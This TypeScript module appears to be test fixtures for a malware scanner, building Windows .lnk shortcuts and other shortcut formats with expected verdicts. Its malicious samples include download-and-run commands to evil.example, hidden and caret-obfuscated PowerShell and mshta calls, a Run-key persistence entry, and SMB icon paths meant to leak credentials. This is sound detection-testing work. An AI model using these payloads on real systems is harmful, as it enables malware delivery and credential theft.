import { eicar, zip } from '../../scanners/samples';
import type { Sample } from '../sample';

interface LinkOptions {
  target?: string;
  args?: string;
  icon?: string;
  environment?: string;
  overlay?: Buffer;
}

const u16 = (value: number): Buffer => Buffer.from([value & 0xff, value >> 8]);
const u32 = (value: number): Buffer => Buffer.concat([u16(value & 0xffff), u16(value >>> 16)]);
const counted = (text: string): Buffer => Buffer.concat([u16(text.length), Buffer.from(text, 'utf16le')]);

/** A shell link as Windows writes it, [MS-SHLLINK]. */
function link({ target = '', args = '', icon = '', environment = '', overlay = Buffer.alloc(0) }: LinkOptions): Buffer {
  const head = Buffer.alloc(76);
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(head);
  head.writeUInt32LE(0x80 | (target ? 2 : 0) | (args ? 32 : 0) | (icon ? 64 : 0) | (environment ? 0x200 : 0), 20);
  head.writeUInt32LE(7, 60);
  const path = Buffer.from(`${target}\0\0`, 'latin1');
  const info = Buffer.concat([
    u32(28 + path.length),
    u32(28),
    u32(1),
    u32(0),
    u32(28),
    u32(0),
    u32(28 + target.length + 1),
    path,
  ]);
  const block = Buffer.alloc(788);
  block.writeUInt32LE(788, 0);
  block.writeUInt32LE(0xa0000001, 4);
  block.write(environment, 8, 'latin1');
  block.write(environment, 268, 'utf16le');
  return Buffer.concat([
    head,
    target ? info : Buffer.alloc(0),
    args ? counted(args) : Buffer.alloc(0),
    icon ? counted(icon) : Buffer.alloc(0),
    environment ? block : Buffer.alloc(0),
    u32(0),
    overlay,
  ]);
}

const CMD = 'C:\\Windows\\System32\\cmd.exe';
const SHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

function links(): Sample[] {
  const bill = zip([{ name: 'bill.com', data: eicar() }]);
  const encoded = Buffer.from(`echo '${eicar().toString()}'`, 'utf16le').toString('base64');
  const files: [string, string, Buffer, Sample['expect']][] = [
    ['lnk: zip behind the end', 'a.pdf.lnk', link({ target: CMD, args: '/c x', overlay: bill }), 'malicious'],
    ['lnk: file behind the end', 'a.lnk', link({ target: 'C:\\a.txt', overlay: eicar() }), 'malicious'],
    ['lnk: encoded command', 'a.lnk', link({ target: SHELL, args: `-e ${encoded}` }), 'malicious'],
    [
      'lnk: in zip',
      'a.zip',
      zip([{ name: 'invoice.lnk', data: link({ target: CMD, args: '/c start https://evil.example/a.exe' }) }]),
      'malicious',
    ],
    ['lnk: command', 'a.lnk', link({ target: CMD, args: '/c copy a.dat b.exe & b.exe' }), 'malicious'],
    [
      'lnk: environment block',
      'a.lnk',
      link({ environment: '%ComSpec%', args: '/c powershell -w hidden -c iwr https://evil.example/a' }),
      'malicious',
    ],
    ['lnk: carets', 'a.lnk', link({ target: CMD, args: '/c m^s^h^t^a https://evil.example/a' }), 'malicious'],
    [
      'lnk: tool of the system',
      'a.lnk',
      link({ target: 'C:\\Windows\\System32\\rundll32.exe', args: 'a.dll,Start', icon: 'imageres.dll' }),
      'malicious',
    ],
    ['lnk: long arguments', 'a.lnk', link({ target: SHELL, args: `${' '.repeat(900)}-c iex $x` }), 'malicious'],
    ['lnk: icon from a share', 'a.lnk', link({ target: 'C:\\a.txt', icon: '\\\\203.0.113.9\\x\\a.ico' }), 'malicious'],
    ['lnk: target on a share', 'a.lnk', link({ target: '\\\\203.0.113.9@ssl\\davwwwroot\\a.txt' }), 'suspicious'],
    ['lnk: cut off', 'a.lnk', link({ target: 'C:\\a.txt', args: 'some words' }).subarray(0, 120), 'unscannable'],
    ['benign shortcut: document', 'a.lnk', link({ target: 'C:\\Users\\anna\\letter.docx' }), 'clean'],
    [
      'benign shortcut: program',
      'a.lnk',
      link({ target: 'C:\\Program Files\\App\\app.exe', icon: 'C:\\Program Files\\App\\app.ico' }),
      'clean',
    ],
    ['benign shortcut: folder on the network drive', 'a.lnk', link({ target: 'Z:\\Projects' }), 'clean'],
  ];
  return files.map(([kind, name, bytes, expect]) => ({ kind, name, bytes, expect }));
}

function texts(): Sample[] {
  const files: [string, string, string, Sample['expect']][] = [
    ['url: share', 'a.url', '[InternetShortcut]\r\nURL=file://203.0.113.9/x/a.exe\r\n', 'malicious'],
    ['url: script', 'a.url', '[InternetShortcut]\r\nURL=https://evil.example/a.hta\r\n', 'malicious'],
    [
      'url: icon from a share',
      'a.url',
      '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\203.0.113.9\\a\\b.ico\r\n',
      'malicious',
    ],
    ['url: UTF-16', 'a.url', '\ufeff[InternetShortcut]\r\nURL=file://203.0.113.9/x/a.vbs\r\n', 'malicious'],
    ['url: named txt', 'a.txt', '[InternetShortcut]\nURL=\\\\203.0.113.9@80\\x\\a.lnk\n', 'malicious'],
    ['scf', 'a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\share\\a.ico\r\n', 'malicious'],
    [
      'desktop',
      'a.desktop',
      '[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c "curl https://evil.example/a | bash"\n',
      'malicious',
    ],
    [
      'library-ms',
      'a.library-ms',
      '<?xml version="1.0"?><libraryDescription xmlns="x"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\203.0.113.9\\DavWWWRoot\\</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
      'malicious',
    ],
    [
      'searchConnector-ms',
      'a.searchConnector-ms',
      '<?xml version="1.0"?><searchConnectorDescription xmlns="x"><simpleLocation><url>https://evil.example/x</url></simpleLocation></searchConnectorDescription>',
      'malicious',
    ],
    [
      'settingcontent-ms',
      'a.settingcontent-ms',
      '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
      'malicious',
    ],
    ['theme', 'a.theme', '[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\203.0.113.9\\a\\b.jpg\r\n', 'malicious'],
    [
      'reg',
      'a.reg',
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="mshta https://evil.example/a"\r\n',
      'malicious',
    ],
    ['iqy', 'a.iqy', 'WEB\r\n1\r\nhttps://evil.example/a\r\n', 'suspicious'],
    ['appref-ms', 'a.appref-ms', 'https://evil.example/a.application#a, Culture=neutral', 'suspicious'],
    ['rdp', 'a.rdp', 'full address:s:203.0.113.9\r\nredirectdrives:i:1\r\n', 'suspicious'],
    [
      'benign shortcut: web page',
      'a.url',
      '[InternetShortcut]\r\nURL=https://example.com/help\r\nIconIndex=0\r\n',
      'clean',
    ],
    [
      'benign shortcut: desktop entry',
      'a.desktop',
      '[Desktop Entry]\nType=Application\nName=Editor\nExec=gedit %U\nIcon=gedit\nTryExec=gedit\n',
      'clean',
    ],
    [
      'benign shortcut: desktop entry through a shell',
      'b.desktop',
      '[Desktop Entry]\nType=Application\nName=Editor\nExec=sh -c "gedit --new-window %F"\nIcon=gedit\n',
      'clean',
    ],
    [
      'benign shortcut: theme',
      'a.theme',
      '[Theme]\r\nDisplayName=Blue\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\a.jpg\r\n',
      'clean',
    ],
    [
      'benign shortcut: registry settings',
      'a.reg',
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Acme]\r\n"Colour"="blue"\r\n',
      'clean',
    ],
    ['benign shortcut: driver', 'a.inf', '[Version]\r\nSignature="$Windows NT$"\r\nClass=Printer\r\n', 'clean'],
  ];
  return files.map(([kind, name, text, expected]) => {
    const bytes = text.startsWith('\ufeff') ? Buffer.from(text, 'utf16le') : Buffer.from(text);
    return { kind, name, bytes, expect: expected };
  });
}

/** Shortcuts of Windows and of desktop environments. */
export const samples = (): Sample[] => [...links(), ...texts()];
